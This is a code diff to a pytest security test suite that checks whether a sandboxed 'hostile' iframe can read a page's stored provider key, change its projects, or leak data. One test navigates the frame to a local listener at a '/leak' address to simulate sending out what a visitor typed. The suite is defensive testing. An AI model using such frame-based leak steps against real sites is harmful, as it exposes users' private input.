@@ -34,7 +34,8 @@ def host(server, page):
     return page
 
 
-def place_frame(host, path: str, sandbox: str | None) -> None:
+def place_frame(host, path: str, sandbox: str | None):
+    """Put a frame into the page; returns what is inside it."""
     host.evaluate(
         """([path, sandbox]) => {
             const frame = document.createElement('iframe');
@@ -44,7 +45,7 @@ def place_frame(host, path: str, sandbox: str | None) -> None:
         }""",
         [path, sandbox],
     )
-    host.wait_for_selector("iframe[name=hostile]")
+    return host.wait_for_selector("iframe[name=hostile]").content_frame()
 
 
 def outcome_of(frame) -> dict:
@@ -66,8 +67,7 @@ def assert_harmless(outcome: dict) -> None:
 @pytest.mark.parametrize("sandbox", [SANDBOX, None], ids=["the page's frame", "a frame that forgot its sandbox"])
 def test_from_inside_a_frame_it_reaches_nothing(host, server, preview_path, sandbox):
     projects = server.action("project_list").json()["meta"]["count"]
-    place_frame(host, preview_path, sandbox)
-    outcome = outcome_of(host.frame(name="hostile"))
+    outcome = outcome_of(place_frame(host, preview_path, sandbox))
     assert_harmless(outcome)
     assert host.url.startswith(server.url) and host.evaluate("localStorage.getItem('provider-key')") == KEY
     assert server.action("project_list").json()["meta"]["count"] == projects
@@ -87,8 +87,7 @@ def test_its_frame_cannot_carry_data_to_another_place(host, preview_path):
 
     with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as elsewhere:
         threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
-        place_frame(host, preview_path, SANDBOX)
-        frame = host.frame(name="hostile")
+        frame = place_frame(host, preview_path, SANDBOX)
         outcome_of(frame)
         address = f"http://127.0.0.1:{elsewhere.server_port}/leak?what-the-visitor-typed"
         frame.evaluate(f"void (location.href = {address!r})")
